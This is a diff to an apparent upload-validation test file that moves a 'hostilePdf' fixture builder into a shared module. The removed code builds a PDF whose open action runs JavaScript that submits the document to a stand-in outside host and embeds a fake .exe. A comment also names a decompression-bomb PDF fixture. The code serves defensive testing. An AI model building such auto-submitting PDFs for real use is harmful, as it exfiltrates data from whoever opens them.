@@ -3,11 +3,10 @@ import { join } from 'node:path';
 import { deflateSync } from 'node:zlib';
 
 import { DocumentDetail, DocumentType, SecurityLevel, Urgency } from '@vanthu/shared/contracts';
-import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';
 import { DataSource } from 'typeorm';
 
 import { startTestApp, TestApp } from '../../test/harness';
-import { corpusFile, Directory, Route } from '../../test/routing';
+import { corpusFile, Directory, hostilePdf, Route } from '../../test/routing';
 
 /** Every file in the storage folder (content-addressed: one per distinct content). */
 function storedFiles(root: string): string[] {
@@ -21,16 +20,6 @@ function storedFiles(root: string): string[] {
   };
   walk(root);
   return found;
-}
-
-/** What the held-out check sent: a one-page PDF that submits data outside when opened, with an .exe inside. */
-async function hostilePdf(): Promise<Buffer> {
-  const doc = await PDFDocument.create();
-  doc.addPage();
-  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm({cURL: "https://thu-thap.example/du-lieu", cSubmitAs: "PDF"});') });
-  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
-  await doc.attach(Buffer.from('MZ\x90\x00 a program'), 'cai-dat.exe', { mimeType: 'application/octet-stream' });
-  return Buffer.from(await doc.save());
 }
 
 /** A valid PDF whose page content is a 1,000 : 1 Flate bomb (100 MB from ~100 kB). */
